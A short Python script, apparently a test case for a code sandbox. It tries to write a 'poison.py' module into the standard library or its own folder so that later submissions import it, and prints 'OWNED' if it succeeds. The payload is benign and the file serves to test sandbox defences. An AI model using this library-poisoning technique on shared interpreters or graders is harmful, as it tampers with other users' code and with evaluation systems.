# ruff: noqa
# idea: change a package that later submissions import
# undefended: owned
# sandbox: error OSError
import os, site, sys

place = os.path.dirname(MY_FILE) if os.path.exists(MY_FILE) else os.path.dirname(os.__file__)
with open(place + "/poison.py", "w") as file:
    file.write("print('poisoned')")
sys.path.insert(0, place)
import poison

print("OWNED")
